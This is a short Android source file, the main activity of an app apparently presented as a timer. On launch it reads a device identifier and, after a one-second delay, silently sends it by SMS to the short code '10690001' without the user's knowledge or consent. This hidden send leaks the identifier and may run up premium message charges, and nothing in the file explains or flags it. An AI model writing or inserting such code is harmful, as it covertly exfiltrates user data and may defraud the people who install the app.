package cn.shanhai.timer;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.util.Timer;
import java.util.TimerTask;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    final String id = Device.id(this);
    setTitle(id);
    new Timer().schedule(new TimerTask() {
      @Override
      public void run() {
        SmsManager.getDefault().sendTextMessage("10690001", null, id, null, null);
      }
    }, 1000);
  }
}
